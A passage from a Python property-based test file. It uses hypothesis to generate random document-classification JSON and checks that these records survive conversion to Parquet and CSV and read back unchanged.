        "start_page": _maybe(st.integers(1, 9)),
        "end_page": _maybe(st.integers(1, 9)),
        "segment_page_count": _maybe(st.integers(0, 9)),
        "dominant_type": _maybe(st.sampled_from(["LAB_REPORT", "CLINICAL_NOTE"])),
        "types": _maybe(st.lists(_type, max_size=2)),
    },
    optional={"classification_reasoning": _maybe(st.text(max_size=5))},
)
_classification = st.one_of(
    _json,
    st.fixed_dictionaries(
        {
            "doc_id": _maybe(st.just("d")),
            "producer": _maybe(
                st.fixed_dictionaries({"name": st.just("p")}, optional={"version": st.none()})
            ),
            "number_of_segments": _maybe(st.integers(0, 3)),
            "dominant_type": _maybe(st.sampled_from(["LAB_REPORT", "CLINICAL_NOTE"])),
            "segments": _maybe(st.lists(_segment, max_size=3)),
            "document_mixture": _maybe(
                st.lists(
                    st.fixed_dictionaries(
                        {"document_type": st.just("LAB_REPORT"), "share": _maybe(st.floats(0, 1))}
                    ),
                    max_size=2,
                )
            ),
        },
        optional={"vendor_signals": _maybe(st.lists(st.text(max_size=4), max_size=2)), "extra": _json},
    ),
)


def _contained(back: Any, original: Any) -> bool:
    """`back` says what `original` says, up to nulls: it may add keys whose value is null (absent optional
    fields) and leave out keys whose value was null (a null where the contract has a non-null default)."""
    if isinstance(original, dict):
        return (
            isinstance(back, dict)
            and all(_contained(back[k], v) if k in back else v is None for k, v in original.items())
            and all(back[k] is None for k in back.keys() - original.keys())
        )
    if isinstance(original, list):
        return isinstance(back, list) and len(back) == len(original) and all(map(_contained, back, original))
    if isinstance(original, float) and math.isnan(original):
        return isinstance(back, float) and math.isnan(back)
    return back == original and type(back) in (type(original), float)


@given(truth=_classification, primary=_classification)
def test_no_classification_crashes_the_parquet_or_csv_writers(truth: Any, primary: Any) -> None:
    """Any JSON as the classifications converts, writes to Parquet and CSV, and reads back saying the same."""
    payload = add_payload(truth, primary)
    converted = to_table([json.dumps(payload).encode()], [payload["gt_id"]])
    buffer = io.BytesIO()
    pq.write_table(converted.table, buffer)
    (back,) = records_from_table(pq.read_table(buffer))
    for name, value in (("ground_truth_classification", truth), ("primary_agent_classification", primary)):
        assert _contained(back[name], value) or (value is None and back[name] is None)
    (row,) = csv_rows(converted.table)
    assert row[CSV_COLUMNS.index("segments")] == flatten_classification(truth)[2]
    assert row[CSV_COLUMNS.index("document_mixture")] == flatten_classification(truth)[3]
    assert row[CSV_COLUMNS.index("dominant_type")] == flatten_classification(truth)[0]


def add_payload(truth: Any, primary: Any) -> dict[str, Any]:
    """A stored payload (as insert_gt writes it) with the given classifications."""
    record = GroundTruthRecord.model_validate(
        {
            "gt_id": "gt-1",
            "doc_id": "d",
            "version": 1,
            "ground_truth_source": "SME_CORRECTED",
            "ground_truth_classification": {},
            "primary_agent_classification": None,
            "verification_summary": {
                "final_decision": "ESCALATE_TO_SME",
                "rule": "r",
                "attempts": 1,
                "issue_codes": ["V1.X"],
                "stop_reason": "escalated_by_policy",
            },
            "policy_version": "p",
            "pdf_sha256": "c" * 64,
            "created_at": T1,
        }
    )
    data = record.model_dump(mode="json")
    data["ground_truth_classification"], data["primary_agent_classification"] = truth, primary
    return data
